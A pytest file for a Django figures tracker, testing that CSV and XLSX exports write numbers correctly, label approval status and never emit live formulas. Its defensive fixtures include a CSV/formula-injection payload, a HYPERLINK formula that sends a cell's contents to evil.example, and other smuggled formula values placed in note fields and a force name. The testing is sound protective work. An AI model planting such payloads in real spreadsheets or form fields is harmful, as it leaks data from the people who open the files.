"""Issue 10 section 4: every CSV/XLSX the tracker writes adds up in a spreadsheet (counts are
numbers, never "1,234" text), says which figures it holds (approved only, or all with each
figure's review state) and never writes a formula, through every export URL."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from figures_app.exports import export_rows
from figures_app.services.imports import import_figures
from figures_app.services.review import figures_send_back
from requests_app.tabular import write_csv, write_xlsx

from .conftest import enter

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


def _sheet(response, name):
    book = load_workbook(io.BytesIO(response.content))
    sheet = book[name]
    rows = list(sheet.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row, strict=False)) for row in rows[1:]], book


@pytest.fixture
def figures(campaign, metric, staff, reviewer):
    """Kent approved ("1,234" as the force wrote it), Essex waiting, Surrey sent back."""
    enter(
        campaign,
        staff,
        [("Kent", "2015/16", "2,000"), ("Kent", "2016/17", "1,234"), ("Kent", "2016/17", "<5", 13)],
        approve_by=reviewer,
    )
    enter(campaign, staff, [("Essex", "2016/17", "1,000")])
    enter(campaign, staff, [("Surrey", "2016/17", 7)])
    surrey = campaign.requests.get(force__name="Surrey Police")
    figures_send_back(request_id=surrey.pk, actor=reviewer, comment="Check.")


def test_the_figures_csv_writes_counts_as_plain_numbers_with_the_wording_beside(
    figures, campaign, staff, client
):
    client.force_login(staff)
    response = client.get(reverse("figures_export_csv", args=[campaign.slug]))
    text = response.getvalue().decode()  # streamed: read once
    assert "1,234" not in text.split("as_given")[0]
    rows = {
        (r["force"], r["period"], r["victim_age"]): r for r in csv.DictReader(io.StringIO(text))
    }
    kent = rows[("Kent Police", "2016/17", "")]
    assert (kent["value"], kent["as_given"], kent["review"]) == ("1234", "1,234", "approved")
    assert rows[("Kent Police", "2016/17", "13")]["value"] == "<5"  # not a count: kept as given
    assert rows[("Essex Police", "2016/17", "")]["review"] == "waiting for review"
    assert rows[("Surrey Police", "2016/17", "")]["review"] == "sent back"
    assert rows[("Surrey Police", "2016/17", "")]["value"] == "7"
    # Everything by default, and the file name says so.
    assert "-figures-all.csv" in response["Content-Disposition"]


def test_approved_only_is_a_choice_and_the_file_says_so(figures, campaign, staff, client):
    client.force_login(staff)
    url = reverse("figures_export_csv", args=[campaign.slug]) + "?basis=approved"
    response = client.get(url)
    rows = _csv(response)  # streamed: read once
    assert {r["force"] for r in rows} == {"Kent Police"}
    assert {r["review"] for r in rows} == {"approved"}
    assert "-figures-approved.csv" in response["Content-Disposition"]
    response = client.get(reverse("figures_export_xlsx", args=[campaign.slug]) + "?basis=approved")
    rows, book = _sheet(response, "figures")
    assert {r["force"].value for r in rows} == {"Kent Police"}
    about = {r[0].value: r[1].value for r in book["about"].iter_rows()}
    assert about["figures sheet"] == "approved only"
    assert about["totals sheets"] == "approved only"
    assert "-figures-approved.xlsx" in response["Content-Disposition"]


def test_the_totals_page_offers_the_exports_on_the_basis_chosen(figures, campaign, staff, client):
    client.force_login(staff)
    url = reverse("figures_campaign_totals", args=[campaign.slug])
    html = client.get(url).content.decode()
    assert f"/campaigns/{campaign.slug}/figures.csv?basis=approved" in html
    assert f"/campaigns/{campaign.slug}/figures.xlsx?basis=approved" in html
    html = client.get(url + "?basis=all").content.decode()
    assert f"/campaigns/{campaign.slug}/figures.xlsx?basis=all" in html


def test_the_workbook_writes_numeric_cells(figures, campaign, staff, client):
    client.force_login(staff)
    response = client.get(reverse("figures_export_xlsx", args=[campaign.slug]))
    rows, book = _sheet(response, "figures")
    kent = next(
        r
        for r in rows
        if r["force"].value == "Kent Police"
        and r["period"].value == "2016/17"
        and r["victim_age"].value is None
    )
    assert kent["value"].value == 1234 and kent["value"].data_type == "n"
    assert kent["as_given"].value == "1,234" and kent["as_given"].data_type == "s"
    totals, _ = _sheet(response, "totals offences")
    period = next(
        r for r in totals if r["section"].value == "period" and r["period"].value == "2016/17"
    )
    assert period["total"].value == 1234 and period["total"].data_type == "n"


def test_the_totals_csv_writes_plain_numbers_and_real_negatives(
    campaign, metric, staff, reviewer, client
):
    enter(
        campaign,
        staff,
        [("Kent", "2015/16", "2,468"), ("Kent", "2016/17", "1,234")],
        approve_by=reviewer,
    )
    client.force_login(staff)
    response = client.get(reverse("figures_totals_csv", args=[campaign.slug]) + "?metric=offences")
    rows = _csv(response)
    periods = {r["period"]: r for r in rows if r["section"] == "period"}
    assert periods["2015/16"]["total"] == "2468"
    change = next(r for r in rows if r["section"] == "change")
    assert change["change_pct"] == "-50.0"  # a negative number stays a number, not "'-50.0"
    response = client.get(reverse("figures_export_xlsx", args=[campaign.slug]))
    totals, _ = _sheet(response, "totals offences")
    change = next(r for r in totals if r["section"].value == "change")
    assert change["change_pct"].value == -50.0 and change["change_pct"].data_type == "n"


def test_a_round_trip_keeps_the_wording_and_ignores_the_review_column(figures, campaign, staff):
    for data, name in (
        (write_csv(export_rows(campaign)).encode(), "e.csv"),
        (write_xlsx({"figures": export_rows(campaign)}), "e.xlsx"),
    ):
        result = import_figures(campaign=campaign, actor=staff, data=data, filename=name)
        assert (result.created, result.changed, result.unchanged) == (0, 0, 5), name


def test_an_edited_value_wins_over_stale_wording(figures, campaign, staff):
    text = write_csv(export_rows(campaign)).replace("1234,reported", "1300,reported")
    import_figures(campaign=campaign, actor=staff, data=text.encode(), filename="e.csv")
    kent = campaign.requests.get(force__name="Kent Police").figures.get(
        period__label="2016/17", category_key=""
    )
    assert (kent.value, kent.raw_text) == (1300, "1300")


# --- formulas, through every URL that writes a spreadsheet -------------------------------------

CSV_URLS = ["figures_export_csv", "figures_totals_csv", "campaign_requests_csv"]
XLSX_URLS = ["figures_export_xlsx", "campaign_requests_xlsx"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(campaign, metric, staff, reviewer):
    enter(
        campaign,
        staff,
        [
            {"force": "Kent", "period": "2015/16", "value": "2,000", "note": FORMULA},
            {"force": "Kent", "period": "2016/17", "value": "1,000", "note": "@SUM(A1)"},
            {"force": "Essex", "period": "2016/17", "value": "5", "note": "\t=1+1"},
        ],
        approve_by=reviewer,
    )
    kent = campaign.requests.get(force__name="Kent Police")
    kent.force_reference = "-2+3"
    kent.save(update_fields=["force_reference"])
    kent.force.name = FORMULA  # a force named by someone hostile
    kent.force.save(update_fields=["name"])


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("url", CSV_URLS)
@pytest.mark.parametrize("basis", ["approved", "all"])
def test_no_csv_export_writes_a_formula(hostile, campaign, staff, client, url, basis):
    client.force_login(staff)
    response = client.get(reverse(url, args=[campaign.slug]) + f"?metric=offences&basis={basis}")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.getvalue().decode())))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells, url  # the force's name, shown as typed
    bad = [c for c in cells if c.startswith(STARTS) and not _is_number(c)]
    assert bad == [], url
    if url == "figures_totals_csv":
        assert "-50.0" in cells  # Kent 2,000 -> 1,000: a real negative stays a number


@pytest.mark.parametrize("url", XLSX_URLS)
def test_no_xlsx_export_writes_a_formula(hostile, campaign, staff, client, url):
    client.force_login(staff)
    response = client.get(reverse(url, args=[campaign.slug]))
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], url
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(STARTS)]
    assert FORMULA in {c.value for c in texts}, url  # kept exactly, as text
    assert all(c.data_type == "s" and c.quotePrefix for c in texts), url
    numbers = [c.value for c in cells if isinstance(c.value, (int, float))]
    if url == "figures_export_xlsx":
        assert -50.0 in numbers and 2000 in numbers
